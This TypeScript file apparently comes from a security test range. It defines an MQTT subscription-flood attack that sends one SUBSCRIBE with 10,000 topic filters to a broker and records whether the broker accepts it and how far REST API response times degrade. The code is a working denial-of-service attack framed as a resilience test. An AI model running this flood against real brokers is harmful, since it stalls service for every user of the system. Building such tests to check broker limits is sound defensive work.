/**
 * Denial of view over MQTT: one SUBSCRIBE with 10,000 topic filters. A broker that accepts it
 * spends memory and matching time on every message for one client, and the twin's views slow
 * or stall for everyone. The range measures the REST API's answer time before and after.
 */
import { T } from '../techniques.ts';
import type { Attack } from '../types.ts';
import { round, trail } from './common.ts';

const FILTERS = 10_000;

export const mqttSubscribeFlood: Attack = {
  id: 'mqtt-subscribe-flood',
  title: `MQTT subscription flood: one SUBSCRIBE with ${FILTERS.toLocaleString('en')} topic filters`,
  techniques: [T.denialOfView, T.denialOfService],
  face: 'mqtt',
  preconditions: ['a connection to the broker (anonymous, or an account the attacker holds)'],
  steps: ['CONNECT', `SUBSCRIBE with ${FILTERS} filters in one packet`, 'wait for the SUBACK or the broker closing the connection'],
  expectedImpact: 'the broker holds 10,000 subscriptions for one client: every message costs more, views lag or stall',
  async run(ctx) {
    // the client library loads on demand, so `attack list` answers at once
    const { mqttClose, mqttConnect } = await import('../clients/mqtt.ts');
    const evidence: string[] = [];
    const restMs = async (): Promise<number | null> => {
      if (ctx.observer === null) return null;
      const t0 = performance.now();
      await ctx.observer.view();
      return round(performance.now() - t0);
    };
    const restBefore = await restMs();
    const client = await mqttConnect(ctx, evidence);
    let granted = 0;
    let closed = false;
    if (client !== null) {
      client.once('close', () => (closed = true));
      const filters = Array.from({ length: FILTERS }, (_, k) => `flood/${k}/#`);
      try {
        const r = await Promise.race([
          client.subscribeAsync(filters, { qos: 0 }),
          new Promise<never>((_, reject) => client.once('close', () => reject(new Error('the broker closed the connection')))),
          new Promise<never>((_, reject) => setTimeout(() => reject(new Error('no SUBACK in 10 s')), 10_000)),
        ]);
        granted = r.filter((g) => g.qos !== 128).length;
        evidence.push(`MQTT: SUBACK granted ${granted} of ${FILTERS} filters`);
      } catch (e) {
        evidence.push(`MQTT: SUBSCRIBE with ${FILTERS} filters: ${(e as Error).message}`);
      }
      await mqttClose(client);
    }
    const restAfter = await restMs();
    await trail(ctx, evidence, granted < FILTERS);
    return {
      outcome: granted >= FILTERS ? 'succeeded' : 'blocked',
      evidence,
      impact: { filters: FILTERS, granted, connectionClosed: closed, restMsBefore: restBefore, restMsAfter: restAfter },
    };
  },
  async cleanup() {
    // the subscriptions end with the attacker's connection
  },
};
